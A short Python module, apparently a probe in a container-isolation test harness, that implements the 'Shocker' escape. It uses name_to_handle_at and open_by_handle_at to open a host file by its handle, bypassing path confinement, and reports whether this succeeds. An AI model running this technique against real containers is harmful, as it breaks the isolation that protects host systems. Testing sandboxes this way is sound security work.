"""Opens a file of the host's file system by its handle, around every path ("Shocker")."""

import ctypes
import os
import struct

from kernel import call


def attack(world):
    handle = ctypes.create_string_buffer(struct.pack("<Ii", 128, 0) + bytes(128), 136)
    mount_id = ctypes.c_int()
    call("name_to_handle_at", -100 & 0xffffffffffffffff, b"/usr/bin/env", handle, ctypes.byref(mount_id), 0)
    base = os.open("/usr", os.O_RDONLY)
    return call("open_by_handle_at", base, handle, os.O_RDONLY) >= 0
